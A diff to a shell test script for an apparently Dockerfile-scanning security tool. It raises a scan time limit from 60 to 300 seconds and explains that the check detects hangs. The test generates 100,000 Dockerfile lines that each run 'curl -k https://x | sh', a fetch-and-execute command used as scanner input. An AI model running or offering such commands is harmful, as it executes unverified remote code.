@@ -245,7 +245,9 @@ run "image on a 1 MB line" 0 image "$TMP/ctx"
 awk 'BEGIN { print "FROM alpine:3.20 AS s"; for (i = 0; i < 100000; i++) printf "RUN echo %d && curl -k https://x | sh\n", i }' >"$TMP/ctx/Dockerfile"
 start=$(date +%s)
 run "scan of a 100,000-line Dockerfile" 1 scan --format json -o "$TMP/big.json" "$TMP/ctx"
-[ $(( $(date +%s) - start )) -lt 60 ] && ok "100,000 lines in bounded time" || not_ok "100,000 lines took too long"
+# A hang detector, not a speed target (tests/bench measures speed): under
+# ASan this scan takes about 18 s, and over 60 s on a loaded 2-core machine.
+[ $(( $(date +%s) - start )) -lt 300 ] && ok "100,000 lines in bounded time" || not_ok "100,000 lines took too long"
 rm -f "$TMP/ctx/Dockerfile"
 
 echo "$passed passed, $failed failed"
